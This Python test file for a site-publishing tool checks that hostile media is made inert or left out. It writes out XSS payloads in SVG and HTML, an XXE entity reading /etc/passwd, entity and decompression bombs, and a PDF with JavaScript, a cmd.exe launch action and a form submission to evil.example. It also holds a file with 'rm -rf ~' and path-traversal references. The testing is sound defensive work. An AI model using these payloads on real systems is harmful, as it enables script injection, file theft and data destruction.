"""Content and media are untrusted: nothing published carries active content, a bad picture is one
warning in every format alike, and no byte of a file outside the site reaches any output.

Real files of every hostile kind are made here (SVGs with script in every disguise, HTML
polyglots, a PDF with JavaScript, launch actions and attachments, decompression bombs,
truncated and mislabelled pictures) and rendered by the real engines (WeasyPrint,
python-docx, the email renderer) in every format.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pikepdf

from pubkit import formats as registry
from pubkit.pipeline import render_path
from pubkit.renderers.base import RenderContext
from pubkit.site import open_site
from pubkit.site.outputs import files_of
from tests.hostile.conftest import MARKER, bomb_png, expanded, png, secret_png, write_site

FORMATS = ["html", "pdf", "docx", "email"]
END = "The closing paragraph is written whatever the pictures do."


def render_each(root: Path) -> dict[str, tuple[dict[str, bytes], list[str]]]:
    """Each format's files (by output path) and warnings, for every article of ``root``."""
    site = open_site(root)
    ctx = RenderContext.for_site(site)
    out: dict[str, tuple[dict[str, bytes], list[str]]] = {fmt: ({}, []) for fmt in FORMATS}
    for path in sorted(site.content_dir.glob("*.md")):
        for result in render_path(path, FORMATS, ctx):
            assert result.error is None, result.error
            assert result.output is not None and result.name is not None
            files, warnings = out[result.format]
            files.update(files_of(registry.get(result.format), result.name, result.output))
            warnings.extend(str(w) for w in result.warnings)
    return out


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' \
           'width="40" height="40">'
ACTIVE_SVGS = {
    "script": "<script>alert(1)</script>",
    "cdata-script": "<script><![CDATA[alert(1)]]></script>",
    "prefixed-script": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "onload": '<rect width="9" height="9" onload="alert(1)"/>',
    "onclick-upper": '<rect width="9" height="9" ONCLICK="alert(1)"/>',
    "foreign-object": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
                      'src="https://evil.example/"/></foreignObject>',
    "javascript-link": '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "entity-javascript": '<a href="jav&#x61;script:alert(1)"><rect width="9" height="9"/></a>',
    "set-href": '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>',
    "animate-href": '<a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
    "external-image": '<image href="https://evil.example/x.png" width="9" height="9"/>',
    "file-image": '<image xlink:href="file:///etc/passwd" width="9" height="9"/>',
    "external-use": '<use href="https://evil.example/a.svg#x"/>',
    "import": "<style>@import url(https://evil.example/x.css);</style>",
    "css-url": '<style>rect{fill:url(https://evil.example/p)}</style><rect width="9" height="9"/>',
    "style-attr-url": '<rect width="9" height="9" style="fill:url(&quot;https://evil.example/&quot;)"/>',
    "css-escape": "<style>rect{background:u\\72l(https://evil.example/)}</style>",
    "data-uri": '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" width="9"/>',
    "handler-element": '<handler type="application/ecmascript">alert(1)</handler>',
    "filter-external": '<filter id="f"><feImage href="https://evil.example/x"/></filter>',
}


def test_active_svg_is_published_only_inert(tmp_path: Path) -> None:
    files = {f"content/{name}.svg": f"{SVG_HEAD}{body}<circle r='5' cx='9' cy='9'/></svg>"
             for name, body in ACTIVE_SVGS.items()}
    files["content/pi.svg"] = ('<?xml-stylesheet href="https://evil.example/x.css"?>' + SVG_HEAD
                               + "<circle r='5'/></svg>")
    files["content/billion.svg"] = (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        + SVG_HEAD + "<text>&c;&c;&c;&c;&c;&c;</text></svg>")
    files["content/xxe.svg"] = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
                                + SVG_HEAD + "<text>&s;</text></svg>")
    names = sorted(Path(f).name for f in files)
    body = "\n\n".join(f"![{n}]({n})" for n in names)
    files["content/a.md"] = f"---\ntitle: Drawings\n---\n{body}\n\n{END}\n"
    rendered = render_each(write_site(tmp_path / "site", files))
    published = {k: v for k, v in rendered["html"][0].items() if k.endswith(".svg")}
    assert published, rendered["html"][1]
    active = re.compile(rb"(?i)<script|\bon[a-z]+\s*=|foreignObject|javascript:|https?:(?!//www\.w3\.org)"
                        rb"|file:|@import|url\s*\((?!\s*['\"]?#)|xml-stylesheet|<handler|<set\b|<animate|"
                        rb"<!ENTITY|root:|data:|aaaaaaaaaa")
    for name, data in published.items():
        assert active.search(data) is None, (name, data)
    for fmt, (outputs, _) in rendered.items():
        for name, data in outputs.items():
            seen = expanded(name, data)
            assert b"evil.example" not in seen and b"root:x:0:0" not in seen, (fmt, name)
            assert b"alert(1)" not in seen, (fmt, name)


def pdf_with_everything_active() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=js)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([
            pikepdf.String("x.exe"), pdf.make_indirect(pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"),
                EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ" + MARKER))))])))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    widget = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
                                                  FT=pikepdf.Name.Btn, T=pikepdf.String("send"),
                                                  Rect=[0, 0, 9, 9], A=submit))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                             Rect=[0, 0, 9, 9], A=launch)), widget]))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


ACTIVE_FILES: dict[str, bytes] = {
    "page.html": b"<!DOCTYPE html><script>alert(1)</script>",
    "page.htm": b"<html><body onload=alert(1)>",
    "doc.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "feed.xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "app.js": b"alert(1)",
    "mod.mjs": b"export default alert(1)",
    "style.css": b"body{background:url(https://evil.example/)}",
    "run.exe": b"MZ\x90\x00" + b"\x00" * 60,
    "arch.zip": b"PK\x03\x04" + b"\x00" * 40,
    "page.txt": b"<html><script>alert(1)</script></html>",
    "poly.gif": b"GIF89a/*<script>alert(1)</script>*/",
    "fake.png": b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
    "macro.docm": b"PK\x03\x04" + b"\x00" * 40,
    "draw.svg": (SVG_HEAD + "<script>alert(1)</script></svg>").encode(),
    "shell.sh": b"#!/bin/sh\nrm -rf ~\n",
}


def test_active_linked_files_are_never_published_as_they_are(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f"content/files/{n}": d for n, d in ACTIVE_FILES.items()}
    files["content/files/form.pdf"] = pdf_with_everything_active()
    files["content/files/notes.txt"] = b"Plain words, no markup.\n"
    links = " ".join(f"[{n}](files/{n})" for n in sorted([*ACTIVE_FILES, "form.pdf", "notes.txt"]))
    files["content/a.md"] = f"---\ntitle: Files\n---\n{links}\n\n{END}\n"
    rendered = render_each(write_site(tmp_path / "site", files))
    for fmt, (outputs, warnings) in rendered.items():
        published = {Path(k).name for k in outputs if k.startswith("html/files/")}
        assert published <= {"form.pdf", "notes.txt", "draw.svg"}, (fmt, published)
        for name in ACTIVE_FILES:
            if name != "draw.svg":
                said = [w for w in warnings if f"'files/{name}'" in w and "left out" in w]
                assert len(said) == 1, (fmt, name, warnings)
        assert b"alert(1)" not in b"".join(expanded(k, v) for k, v in outputs.items()
                                             if k != "html/files/form.pdf"), fmt
    cleaned = rendered["html"][0]["html/files/form.pdf"]
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        text = " ".join(repr(o) for o in pdf.objects)
    for key in ("/JavaScript", "/JS", "/OpenAction", "/Launch", "/EmbeddedFiles", "/SubmitForm", "/AA"):
        assert key not in text, key
    assert MARKER not in expanded("form.pdf", cleaned)


BAD_PICTURES: dict[str, bytes | str] = {
    "bomb.png": bomb_png(),
    "truncated.png": png(64, 64, truncate=60),
    "mislabelled.jpg": png(8, 8),
    "empty.png": b"",
    "garbage.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\xff" * 12,
    "tall.gif": b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + b"\x00" * 20,
    "laugh.svg": (SVG_HEAD + '<defs><rect id="a0" width="1" height="1"/>'
                  + "".join(f'<g id="a{i}"><use href="#a{i - 1}"/><use href="#a{i - 1}"/>'
                            f'<use href="#a{i - 1}"/><use href="#a{i - 1}"/></g>' for i in range(1, 16))
                  + '</defs><use href="#a15"/></svg>'),
    "huge.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="900000" height="900000"/>',
    "broken.svg": SVG_HEAD + "<rect",
}


def test_a_bad_picture_is_one_warning_in_every_format_alike_and_the_rest_is_written(tmp_path: Path) -> None:
    names = sorted(BAD_PICTURES)
    body = "\n\n".join(f"![{n}]({n})" for n in names)
    files: dict[str, str | bytes] = {f"content/{n}": d for n, d in BAD_PICTURES.items()}
    files["content/a.md"] = f"---\ntitle: Pictures\nimage: bomb.png\nimage_alt: x\n---\n{body}\n\n{END}\n"
    rendered = render_each(write_site(tmp_path / "site", files))
    lines = {n: f"content/a.md:{3 if n == 'bomb.png' else 6 + 2 * names.index(n)}: warning: left out"
             for n in names}
    said_by: dict[str, list[str]] = {}
    for fmt, (outputs, warnings) in rendered.items():
        for name in names:
            about = [w for w in warnings if f"'{name}'" in w]
            if fmt == "email" and name.endswith(".svg") and about and "email clients" in about[0]:
                about = [w.replace("left out image", "left out") for w in about]  # SVG never reaches mail
            assert len(about) == 1, (fmt, name, warnings)
            assert about[0].startswith(lines[name]), (fmt, about[0])
            said_by.setdefault(name, []).append(about[0])
        main = next(k for k in outputs if k.startswith(f"{registry.get(fmt).folder}/"))
        assert END.encode() in expanded(main, outputs[main]) or fmt == "pdf", fmt
        assert not [k for k in outputs if Path(k).name in BAD_PICTURES], (fmt, sorted(outputs))
    for name, said in said_by.items():
        if not name.endswith(".svg"):
            assert len(set(said)) == 1, said  # the same words in every format


def test_no_byte_of_a_file_outside_the_site_reaches_any_output(tmp_path: Path) -> None:
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.png").write_bytes(secret_png())
    (outside / "secret.txt").write_bytes(MARKER + b"\n")
    (outside / "secret.svg").write_bytes(SVG_HEAD.encode() + b"<text>" + MARKER + b"</text></svg>")
    refs = ["../../private/secret.png", "../../private/secret.txt", str(outside / "secret.png"),
            f"file://{outside}/secret.png", f"file://{outside / 'secret.txt'}", "link.png", "link.txt",
            "linked/secret.png", "linked/secret.svg", "%2e%2e/%2e%2e/private/secret.png",
            "..\\..\\private\\secret.png", f"file:{outside}/secret.txt", "content/../../private/secret.txt",
            "/../private/secret.png"]
    body = "\n".join(f"![i{i}]({r}) [l{i}]({r}) <{r}>" for i, r in enumerate(refs) if " " not in r)
    raw = "".join(f'<img src="{r}" alt="r"><a href="{r}">r</a>' for r in refs)
    article = (f"---\ntitle: Leaks\nimage: ../../private/secret.png\n---\n{body}\n\n<p>{raw}</p>\n\n"
               f"[ref][s]\n\n[s]: ../../private/secret.txt\n\n{END}\n")
    root = write_site(tmp_path / "site", {"content/a.md": article},
                      toml='[email]\nembed_images = true\n')
    (root / "content/link.png").symlink_to(outside / "secret.png")
    (root / "content/link.txt").symlink_to(outside / "secret.txt")
    (root / "content/linked").symlink_to(outside)
    rendered = render_each(root)
    for fmt, (outputs, _) in rendered.items():
        for name, data in outputs.items():
            assert MARKER not in expanded(name, data), (fmt, name)


def test_the_leak_check_finds_the_marker_when_it_is_published(tmp_path: Path) -> None:
    """The control: the same picture inside the site is published, and the check sees it there."""
    article = f"---\ntitle: Inside\n---\n![i](inside.png)\n\n{END}\n"
    root = write_site(tmp_path / "site", {"content/inside.png": secret_png(), "content/a.md": article})
    rendered = render_each(root)
    for fmt in ("html", "docx"):
        outputs = rendered[fmt][0]
        assert any(MARKER in expanded(k, v) for k, v in outputs.items()), fmt
